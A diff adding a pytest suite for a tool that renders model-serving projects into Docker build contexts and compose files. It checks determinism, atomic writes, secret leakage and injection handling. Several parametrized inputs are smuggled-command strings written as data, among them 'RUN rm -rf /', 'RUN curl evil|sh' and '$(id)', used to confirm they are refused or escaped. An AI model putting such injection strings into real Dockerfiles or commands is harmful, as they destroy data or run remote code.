@@ -1,0 +1,468 @@
+"""`render_project`: build contexts, compose file, determinism, atomicity, injection attempts."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import os
+import shutil
+import stat
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+from cortex_build import render as render_module
+from cortex_build.cli import main
+from cortex_build.config import load_project
+from cortex_build.errors import UserError
+from cortex_build.render import render_project
+from cortex_build.spec import ApiSpec, ModelRef, ModelsSpec, PredictorSpec, Project
+
+PYTHON_PREDICTOR = """\
+class PythonPredictor:
+    def __init__(self, config):
+        self.config = config
+
+    def predict(self, payload):
+        return payload
+"""
+
+TENSORFLOW_PREDICTOR = """\
+class TensorFlowPredictor:
+    def __init__(self, tensorflow_client, config):
+        self.client = tensorflow_client
+
+    def predict(self, payload):
+        return self.client.predict(payload)
+"""
+
+CONFIG = """\
+- name: echo
+  kind: RealtimeAPI
+  predictor:
+    type: python
+    path: predictor.py
+    env:
+      GREETING: 'say "hi" $HOME `id`'
+  compute:
+    cpu: 1500m
+    mem: 1Gi
+    gpu: 1
+  autoscaling:
+    init_replicas: 2
+    min_replicas: 2
+
+- name: tf
+  kind: RealtimeAPI
+  predictor:
+    type: tensorflow
+    path: tf_predictor.py
+    models:
+      path: saved/
+  compute:
+    cpu: 1
+"""
+
+SECRET = "s3cr3t-value-that-must-not-leak"
+
+
+def make_project(root: Path, config: str = CONFIG, extra: dict[str, str] | None = None) -> Path:
+    files = {
+        "cortex.yaml": config,
+        "predictor.py": PYTHON_PREDICTOR,
+        "tf_predictor.py": TENSORFLOW_PREDICTOR,
+        "saved/saved_model.pb": "not really a model",
+        "saved/variables/variables.index": "",
+        "requirements.txt": "six\n",
+        "dependencies.sh": "apt-get update && apt-get install -y --no-install-recommends jq\n",
+        "values.json": "{}",
+        ".env": f"API_TOKEN={SECRET}\n",
+        **(extra or {}),
+    }
+    for name, text in files.items():
+        path = root / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return root
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Project:
+    return load_project(make_project(tmp_path / "project"))
+
+
+def tree(root: Path) -> dict[str, tuple[str, str]]:
+    """{relative path: (kind and mode, content or link target)} for a whole folder."""
+    found: dict[str, tuple[str, str]] = {}
+    for folder, dirnames, filenames in os.walk(root):
+        for name in dirnames + filenames:
+            path = Path(folder) / name
+            rel = path.relative_to(root).as_posix()
+            info = path.lstat()
+            if stat.S_ISLNK(info.st_mode):
+                found[rel] = ("link", os.readlink(path))
+            elif stat.S_ISDIR(info.st_mode):
+                found[rel] = (f"dir {oct(info.st_mode & 0o777)}", "")
+            else:
+                found[rel] = (f"file {oct(info.st_mode & 0o777)}", path.read_bytes().hex())
+    return found
+
+
+def test_each_api_gets_a_complete_build_context(project: Project, tmp_path: Path) -> None:
+    result = render_project(project, tmp_path / "out")
+    context = tmp_path / "out" / "echo"
+    assert result.api("echo").context == context
+    assert result.api("echo").image == "echo:latest"
+    for name in [
+        "Dockerfile",
+        "cortex/api.json",
+        "cortex/entrypoint.sh",
+        "cortex/runtime-requirements.txt",
+        "cortex/install-requirements.sh",
+        "deps/requirements.txt",
+        "deps/dependencies.sh",
+        "runtime/cortex_serve/__main__.py",
+        "runtime/cortex_internal/lib/log.py",
+        "project/predictor.py",
+        "project/values.json",
+    ]:
+        assert (context / name).is_file(), name
+    assert not list(context.rglob("__pycache__"))
+    assert not (context / "project" / ".env").exists()
+    assert not (context / "project" / "cortex.yaml").exists()
+    assert os.access(context / "cortex" / "entrypoint.sh", os.X_OK)
+    api_json = json.loads((context / "cortex" / "api.json").read_text())
+    assert api_json == json.loads(project.api("echo").to_json())
+
+
+def test_the_runtime_is_copied_unchanged(project: Project, tmp_path: Path) -> None:
+    render_project(project, tmp_path / "out")
+    runtime_base = Path(render_module._runtime_base_dir())
+    copied = tmp_path / "out" / "echo" / "runtime"
+    for package in ("cortex_serve", "cortex_internal"):
+        for source in (runtime_base / package).rglob("*.py"):
+            if "__pycache__" in source.parts:
+                continue
+            target = copied / source.relative_to(runtime_base)
+            assert target.read_bytes() == source.read_bytes()
+
+
+def test_local_models_get_their_own_layer_and_in_image_paths(
+    project: Project, tmp_path: Path
+) -> None:
+    render_project(project, tmp_path / "out")
+    context = tmp_path / "out" / "tf"
+    assert (context / "models/_cortex_default/saved_model.pb").read_text() == "not really a model"
+    assert (context / "models/_cortex_default/variables/variables.index").is_file()
+    # the project keeps a link where the model was, so code opening it by path still works
+    assert os.readlink(context / "project" / "saved") == "/mnt/model/_cortex_default"
+    assert not (context / "project" / "saved" / "saved_model.pb").exists()
+    api_json = json.loads((context / "cortex" / "api.json").read_text())
+    expected = project.api("tf")
+    models = dataclasses.replace(
+        expected.predictor.models,
+        paths=(ModelRef("_cortex_default", "/mnt/model/_cortex_default"),),
+    )
+    expected = dataclasses.replace(
+        expected, predictor=dataclasses.replace(expected.predictor, models=models)
+    )
+    assert api_json == json.loads(expected.to_json())
+
+
+def test_dockerfile_orders_layers_from_stable_to_volatile(project: Project, tmp_path: Path) -> None:
+    render_project(project, tmp_path / "out")
+    dockerfile = (tmp_path / "out" / "tf" / "Dockerfile").read_text()
+    steps = [
+        "python3 -m venv /opt/venv",
+        "COPY cortex/runtime-requirements.txt",
+        "RUN bash /opt/cortex/build/dependencies.sh",
+        "RUN sh /opt/cortex/build/install-requirements.sh",
+        "COPY runtime/ /opt/cortex/runtime/",
+        "COPY models/ /mnt/model/",
+        "COPY cortex/api.json",
+        "COPY project/ /mnt/project/",
+        "USER 10001:10001",
+        'ENTRYPOINT ["/opt/cortex/entrypoint.sh"]',
+    ]
+    positions = [dockerfile.index(step) for step in steps]
+    assert positions == sorted(positions)
+    assert "HEALTHCHECK" in dockerfile
+    assert "org.opencontainers.image.title" in dockerfile
+    # tensorflow: the gRPC client's packages, not TensorFlow
+    requirements = (tmp_path / "out" / "tf" / "cortex" / "runtime-requirements.txt").read_text()
+    assert "grpcio" in requirements
+    assert "tensorflow" not in requirements.replace("the tensorflow client", "")
+
+
+def test_base_images(project: Project, tmp_path: Path) -> None:
+    result = render_project(project, tmp_path / "out")
+    assert result.api("echo").base_image.startswith("nvidia/cuda:")  # gpu: 1
+    assert result.api("tf").base_image.startswith("python:3.")
+    assert result.api("tf").tf_serving_image.startswith("tensorflow/serving:")
+    again = render_project(project, tmp_path / "out", base_image="example.com/base:1")
+    for api in again.apis:
+        assert api.base_image == "example.com/base:1"
+        dockerfile = (api.context / "Dockerfile").read_text()
+        assert "\nFROM example.com/base:1\n" in dockerfile
+
+
+def test_compose_services_ports_aliases_and_sidecar(project: Project, tmp_path: Path) -> None:
+    render_project(project, tmp_path / "out", registry="registry.example.com:5000/team", tag="v1")
+    compose = yaml.safe_load((tmp_path / "out" / "docker-compose.yaml").read_text())
+    services = compose["services"]
+    assert list(services) == ["echo", "tf", "tf-models", "tf-serving"]
+    echo, tf = services["echo"], services["tf"]
+    assert echo["image"] == "registry.example.com:5000/team/echo:v1"
+    assert echo["build"] == {"context": "./echo"}
+    assert echo["networks"]["default"]["aliases"] == ["api-echo"]
+    # two initial replicas: two host ports; the next API continues after them
+    assert echo["ports"] == ["127.0.0.1:8890-8891:8888"]
+    assert tf["ports"] == ["127.0.0.1:8892:8888"]
+    assert echo["deploy"]["replicas"] == 2
+    assert echo["cpu_shares"] == 1536  # 1500m, weighted as Kubernetes weighs requests
+    assert echo["deploy"]["resources"]["limits"]["memory"] == f"{2**30}b"
+    assert echo["deploy"]["resources"]["reservations"]["devices"][0]["count"] == 1
+    assert echo["env_file"] == ["../project/.env"]
+    assert echo["healthcheck"]["test"][0] == "CMD"
+    assert tf["environment"] == {"CORTEX_TF_SERVING_ADDRESS": "tf-serving:9000"}
+    assert services["tf-serving"]["volumes"] == ["tf-models:/mnt/model:ro"]
+    assert services["tf-serving"]["depends_on"] == {
+        "tf-models": {"condition": "service_completed_successfully"}
+    }
+    assert compose["volumes"] == {"tf-models": {}}
+
+
+@pytest.mark.skipif(shutil.which("docker-compose") is None, reason="docker-compose not installed")
+def test_compose_file_passes_docker_compose_config(tmp_path: Path) -> None:
+    # a `$` in a path must reach Compose literally, not as a variable
+    project = load_project(make_project(tmp_path / "my $HOME project"))
+    render_project(project, tmp_path / "out")
+    checked = subprocess.run(
+        ["docker-compose", "-f", str(tmp_path / "out" / "docker-compose.yaml"), "config"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert checked.returncode == 0, checked.stderr
+    # no "The HOME variable is not set": every `$` reached Compose escaped
+    assert "WARNING" not in checked.stderr
+    resolved = yaml.safe_load(checked.stdout)["services"]
+    # Compose read .env through env_file (its values appear only in this resolved view)
+    assert resolved["echo"]["environment"] == {"API_TOKEN": SECRET}
+    assert "for dir in /mnt/model-store/*/; do" in resolved["tf-models"]["entrypoint"][2]
+
+
+def test_dotenv_values_never_reach_the_output(project: Project, tmp_path: Path) -> None:
+    render_project(project, tmp_path / "out")
+    for path in (tmp_path / "out").rglob("*"):
+        if path.is_file() and not path.is_symlink():
+            assert SECRET.encode() not in path.read_bytes(), path
+
+
+def test_rendering_is_deterministic(tmp_path: Path) -> None:
+    # two copies of one project in different places render to the same bytes
+    first = load_project(make_project(tmp_path / "a" / "project"))
+    second = load_project(make_project(tmp_path / "b" / "project"))
+    render_project(first, tmp_path / "a" / "out")
+    render_project(second, tmp_path / "b" / "out")
+    render_project(second, tmp_path / "b" / "out")  # and re-rendering changes nothing
+    assert tree(tmp_path / "a" / "out") == tree(tmp_path / "b" / "out")
+
+
+def test_a_failed_render_leaves_out_as_it_was(project: Project, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    render_project(project, out)
+    before = tree(out)
+    os.symlink("/etc/hostname", project.root / "escape")
+    with pytest.raises(UserError, match="escape: is a symlink to"):
+        render_project(project, out)
+    assert tree(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "project"]  # no staging left
+
+
+def test_an_error_late_in_rendering_leaves_out_as_it_was(
+    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = tmp_path / "out"
+    render_project(project, out)
+    before = tree(out)
+
+    def broken(*args: object, **kwargs: object) -> dict[str, str]:
+        raise RuntimeError("disk full")
+
+    import cortex_build.k8s
+
+    monkeypatch.setattr(cortex_build.k8s, "render_k8s", broken)
+    with pytest.raises(RuntimeError, match="disk full"):
+        render_project(project, out)
+    assert tree(out) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "project"]
+
+
+def test_out_must_be_ours_to_replace(project: Project, tmp_path: Path) -> None:
+    foreign = tmp_path / "foreign"
+    foreign.mkdir()
+    (foreign / "notes.txt").write_text("mine")
+    with pytest.raises(UserError, match="not empty and was not rendered by cortex-build"):
+        render_project(project, foreign)
+    assert (foreign / "notes.txt").read_text() == "mine"
+    with pytest.raises(UserError, match="holds the project"):
+        render_project(project, project.root)
+
+
+def test_out_inside_the_project_is_not_copied_into_itself(tmp_path: Path) -> None:
+    project = load_project(make_project(tmp_path / "project"))
+    render_project(project, tmp_path / "project" / "build")
+    render_project(project, tmp_path / "project" / "build")
+    assert not (tmp_path / "project" / "build" / "echo" / "project" / "build").exists()
+
+
+def test_api_selection(project: Project, tmp_path: Path) -> None:
+    result = render_project(project, tmp_path / "out", api_names=["tf"])
+    assert [api.name for api in result.apis] == ["tf"]
+    assert not (tmp_path / "out" / "echo").exists()
+    with pytest.raises(UserError, match='--api: no API is named "nope"'):
+        render_project(project, tmp_path / "out", api_names=["nope"])
+
+
+@pytest.mark.parametrize(
+    ("option", "value", "message"),
+    [
+        ("tag", "v1\nRUN rm -rf /", "--tag: must be letters"),
+        ("tag", "v1 --privileged", "--tag: must be letters"),
+        ("registry", "evil.com/x y", "--registry: must be a registry"),
+        ("registry", "a\n  privileged: true", "--registry: must be a registry"),
+        ("base_image", "python:3.11\nRUN curl evil|sh", "--base-image: must be an image"),
+        ("base_image", "python:3.11 AS x", "--base-image: must be an image"),
+        ("autoscaler", "vpa", "--autoscaler"),
+    ],
+)
+def test_injection_through_options_is_refused(
+    project: Project, tmp_path: Path, option: str, value: str, message: str
+) -> None:
+    with pytest.raises(UserError, match=message):
+        render_project(project, tmp_path / "out", **{option: value})
+    assert not (tmp_path / "out").exists()
+
+
+def test_injection_through_spec_values_is_refused_or_quoted(tmp_path: Path) -> None:
+    # Specs built directly: the config reader would already reject these; the renderer must
+    # not rely on that.
+    root = tmp_path / "project"
+    root.mkdir()
+    (root / "p.py").write_text(PYTHON_PREDICTOR)
+    config = root / 'we"ird $HOME\nRUN id.yaml'
+    config.write_text("")
+
+    def api(name: str, **predictor: object) -> ApiSpec:
+        return ApiSpec(
+            name=name,
+            generation="v0.2x",
+            endpoint=f"/{name}",
+            predictor=PredictorSpec(type="python", interface="class", path="p.py", **predictor),
+        )
+
+    bad_name = Project(root, config, (api("x\nRUN id"),))
+    with pytest.raises(UserError, match="name: must be a DNS-1035 label"):
+        render_project(bad_name, tmp_path / "out")
+    bad_image = Project(root, config, (api("ok", image="python:3\nRUN id"),))
+    with pytest.raises(UserError, match=r"predictor\.image: must be an image reference"):
+        render_project(bad_image, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+    env = {"A": "x\n  privileged: true\nRUN id", "B": "'\"$(id)`id`"}
+    fine = Project(root, config, (api("ok", env=env, config={"k": "\n}\nRUN id"}),))
+    render_project(fine, tmp_path / "out")
+    dockerfile = (tmp_path / "out" / "ok" / "Dockerfile").read_text()
+    assert "\nRUN id" not in dockerfile  # env and config travel in api.json only
+    assert 'of "we\\"ird $HOME\\nRUN id.yaml"; edit' in dockerfile.splitlines()[0]  # a comment
+    # the one label holding user text is escaped for Dockerfile syntax
+    assert (
+        json.loads((tmp_path / "out" / "ok" / "cortex" / "api.json").read_text())["predictor"][
+            "env"
+        ]
+        == env
+    )
+    compose_text = (tmp_path / "out" / "docker-compose.yaml").read_text()
+    assert "\nRUN id" not in compose_text
+    compose = yaml.safe_load(compose_text)
+    assert list(compose["services"]) == ["ok"]
+    assert "privileged" not in compose["services"]["ok"]
+
+
+def test_dockerfile_string_escapes_and_refuses_line_breaks() -> None:
+    quote = render_module._dockerfile_string
+    assert quote('a "b" $HOME \\x') == '"a \\"b\\" \\$HOME \\\\x"'
+    with pytest.raises(ValueError):
+        quote("a\nRUN id")
+
+
+def test_colliding_compose_service_names_are_an_error(tmp_path: Path) -> None:
+    config = CONFIG + (
+        "\n- name: tf-serving\n  kind: RealtimeAPI\n  predictor:\n    type: python\n"
+        "    path: predictor.py\n"
+    )
+    project = load_project(make_project(tmp_path / "project", config))
+    with pytest.raises(UserError, match='compose service "tf-serving" collides'):
+        render_project(project, tmp_path / "out")
+
+
+def test_models_outside_the_project_and_model_dirs(tmp_path: Path) -> None:
+    outside = tmp_path / "models"
+    (outside / "a" / "1").mkdir(parents=True)
+    (outside / "a" / "1" / "model.onnx").write_text("a")
+    (outside / "b.onnx").write_text("b")
+    root = tmp_path / "project"
+    root.mkdir()
+    (root / "p.py").write_text(PYTHON_PREDICTOR)
+    (root / "cortex.yaml").write_text("")
+    predictor = PredictorSpec(
+        type="python",
+        interface="class",
+        path="p.py",
+        models=ModelsSpec(
+            paths=(
+                ModelRef("a", str(outside / "a")),
+                ModelRef("b", str(outside / "b.onnx")),
+                ModelRef("c", "s3://bucket/c"),
+            )
+        ),
+    )
+    api = ApiSpec(name="multi", generation="v0.2x", endpoint="/multi", predictor=predictor)
+    render_project(Project(root, root / "cortex.yaml", (api,)), tmp_path / "out")
+    context = tmp_path / "out" / "multi"
+    assert (context / "models/a/1/model.onnx").read_text() == "a"
+    assert (context / "models/b/b.onnx").read_text() == "b"
+    refs = json.loads((context / "cortex/api.json").read_text())["predictor"]["models"]["paths"]
+    assert [r["path"] for r in refs] == ["/mnt/model/a", "/mnt/model/b/b.onnx", "s3://bucket/c"]
+
+    by_dir = dataclasses.replace(
+        api,
+        predictor=dataclasses.replace(predictor, models=ModelsSpec(dir=str(outside))),
+    )
+    render_project(Project(root, root / "cortex.yaml", (by_dir,)), tmp_path / "out")
+    assert (context / "models/a/1/model.onnx").is_file()
+    assert (
+        json.loads((context / "cortex/api.json").read_text())["predictor"]["models"]["dir"]
+        == "/mnt/model"
+    )
+
+
+def test_cli_render(tmp_path: Path) -> None:
+    make_project(tmp_path / "project")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(
+        main,
+        ["render", str(tmp_path / "project"), "-o", str(out), "--api", "echo", "--tag", "v2"],
+    )
+    assert result.exit_code == 0, result.output
+    assert f"echo: docker build -t echo:v2 {out / 'echo'}" in result.output
+    assert (out / "echo" / "Dockerfile").is_file()
+    bad = CliRunner().invoke(
+        main, ["render", str(tmp_path / "project"), "-o", str(out), "--tag", "a b"]
+    )
+    assert bad.exit_code == 2
+    assert "cortex-build: --tag: must be letters" in bad.output
+    assert "Traceback" not in bad.output
